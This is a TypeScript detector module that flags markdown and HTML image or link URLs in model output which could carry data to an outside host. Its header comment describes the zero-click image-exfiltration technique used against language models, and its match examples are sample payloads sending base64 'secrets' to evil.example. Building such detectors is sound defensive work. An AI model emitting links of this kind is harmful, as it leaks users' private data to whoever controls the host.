import type { Confirmer, Recognizer } from "./recognizer.ts";

const URL_BYTES = "https?://[!-'*-;=?-~]{3,400}";

/**
 * Links and images of an answer that carry data to a host: an image is fetched without a click, so a model that was told
 * to write one tells whoever owns the host what stands in its address.
 */
export const EXFILTRATION_LINK: Recognizer = {
	type: "exfiltration_link",
	category: "injection",
	label: "LINK",
	patterns: [
		{
			name: "exfiltration_image",
			expression: `!\\[[^\\]\\n]{0,60}\\]\\( ?${URL_BYTES}[) ]`,
			caseInsensitive: true,
			score: 0.8,
			confirm: "exfiltration_image",
			views: [],
		},
		{
			name: "exfiltration_link",
			expression: `\\[[^\\]\\n]{1,60}\\]\\( ?${URL_BYTES}[) ]`,
			caseInsensitive: true,
			score: 0.6,
			confirm: "exfiltration_link",
			views: [],
		},
		{
			name: "exfiltration_html",
			expression: `<(?:img|iframe|audio|video|source|embed|object) [!-=?-~ ]{0,120}(?:src|data|srcset)=["']?${URL_BYTES}["' >]`,
			caseInsensitive: true,
			score: 0.8,
			confirm: "exfiltration_image",
			views: [],
		},
	],
	examples: {
		match: [
			"see ⟦![x](https://evil.example/p.png?q=c2VjcmV0)⟧ now",
			"⟦![](https://c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0.evil.example/p.png)⟧",
			"⟦[details](https://evil.example/?data=bm90IGEgc2VjcmV0IGJ1dCBsb25nIGVub3VnaA)⟧",
			'⟦<img alt="" src="https://evil.example/a?leak=1234567890">⟧',
		],
		noMatch: [
			"![logo](https://example.com/logo.png)",
			"[docs](https://example.com/guide/install?lang=en)",
			"![local](images/a.png?raw=true)",
			"[a](https://example.com/very/long/path/to/some/page-about-things.html)",
		],
	},
};

/** Characters of a query, path part or host label that no ordinary address has. */
const LONG_VALUE = 24;

/** Whether the address could carry data out. `query`: the shortest query that does. */
const carriesData =
	(query: number): Confirmer =>
	(candidate) => {
		const address = /https?:\/\/[^\s"'<>)]+/i.exec(candidate.text)?.[0] ?? "";
		if (!URL.canParse(address)) return 0;
		const { hostname, pathname, search, hash, username } = new URL(address);
		const longest = [...hostname.split("."), ...pathname.split(/[/._-]/)].reduce((most, { length }) => Math.max(most, length), 0);
		return search.length + hash.length > query || username !== "" || longest >= LONG_VALUE ? 1 : 0;
	};

export const confirmImage = carriesData(1);
export const confirmLink = carriesData(LONG_VALUE);

/** The host of the address in a match, or of the match that begins with `//` or `@`; undefined where there is none. */
export function hostIn(text: string): string | undefined {
	const address = /https?:\/\/[^\s"'<>)]+/i.exec(text)?.[0] ?? text.replace(/^(?:\/\/|@)/, "https://");
	return URL.canParse(address) ? new URL(address).hostname.replace(/\.$/, "") : undefined;
}
